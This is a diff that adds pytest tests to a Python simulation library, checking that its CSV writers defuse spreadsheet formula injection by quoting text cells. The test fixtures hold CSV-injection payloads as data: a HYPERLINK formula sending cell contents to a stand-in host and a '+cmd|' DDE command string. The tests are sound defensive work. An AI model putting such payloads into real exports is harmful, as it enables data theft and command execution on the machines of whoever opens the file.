@@ -404,3 +404,51 @@ def test_optimize_prints_an_optimum_to_the_precision_of_its_searched_range():
     assert lines["target_level"].split(" = ")[1].startswith("1.098 "), lines["target_level"]
     assert lines["cap"].split(" = ")[1].startswith("1.87 "), lines["cap"]
     assert lines["commission_rate"].split(" = ")[1].startswith("10.0 "), lines["commission_rate"]
+
+
+EVIL_NAME = '=HYPERLINK("http://x.example/?"&A1,"click")'
+
+
+def test_csv_outputs_neutralise_formula_text_and_keep_numbers(tmp_path):
+    """A rep or team name such as '=HYPERLINK(...)' or '+cmd|...' was written verbatim into CSV files and opened as
+    a formula in a spreadsheet. Text cells (and headers) starting with = + - @ TAB or CR get a leading single quote
+    (OWASP); numbers, negative ones included, are written as numbers and read back equal."""
+    import csv
+
+    from simlib.cli.args import write_table
+    from simlib.fit.history import write_history
+    from simlib.io import csv_safe, csv_text
+
+    df = pd.DataFrame({"rep_id": [EVIL_NAME, "-2+3", "@SUM(A1)", "\tx", "A-1", "-5"],
+                       "team": ["+cmd|' /C calc'!A0", "North", "", None, "y", "z"],
+                       "pay": [-1250.5, 3.0, 0.0, -0.25, 1e-9, -8.0], "n": [-3, 1, 2, 3, 4, 5]})
+    for path, write in ((tmp_path / "t.csv", write_table), (tmp_path / "h.csv", write_history)):
+        write(df, path)
+        with open(path, newline="") as fh:
+            rows = list(csv.reader(fh))
+        assert [r[0] for r in rows[1:]] == ["'" + EVIL_NAME, "'-2+3", "'@SUM(A1)", "'\tx", "A-1", "-5"]
+        assert [r[1] for r in rows[1:3]] == ["'+cmd|' /C calc'!A0", "North"]
+        back = pd.read_csv(path)
+        assert back["pay"].tolist() == df["pay"].tolist() and back["n"].tolist() == df["n"].tolist()
+    assert df["rep_id"].iloc[0] == EVIL_NAME  # the caller's frame is left as it was
+    assert csv_text("\rx") == "'\rx" and csv_text(-5.0) == -5.0 and csv_text("-5e3") == "-5e3"
+    assert list(csv_safe(pd.DataFrame({"=x": [1]})).columns) == ["'=x"]  # a plan name is a column of some tables
+
+
+def test_replay_csv_of_a_history_with_a_formula_rep_name_is_neutralised(tmp_path, capsys):
+    """The same guard on a command's CSV, on stdout and with --out: replay's per-rep table names the rep."""
+    import csv
+    import io
+
+    from simlib import load_scenario
+    from simlib.fit.synth import synth_history
+
+    scen_path = write_yaml(tmp_path / "s.yaml", small_scenario_dict())
+    frame, _ = synth_history(load_scenario(scen_path), rng=2)
+    frame.loc[frame["rep_id"] == frame["rep_id"].iloc[0], "rep_id"] = "=1+2"
+    frame.to_csv(tmp_path / "h.csv", index=False)  # the analyst's own file, written without the guard
+    code, out, _ = cli(capsys, "replay", scen_path, tmp_path / "h.csv", "--format", "csv")
+    reps = [r["rep_id"] for r in csv.DictReader(io.StringIO(out))]
+    assert code == 0 and "'=1+2" in reps and "=1+2" not in reps, reps
+    cli(capsys, "replay", scen_path, tmp_path / "h.csv", "--out", tmp_path / "r.csv")
+    assert (tmp_path / "r.csv").read_text() == out
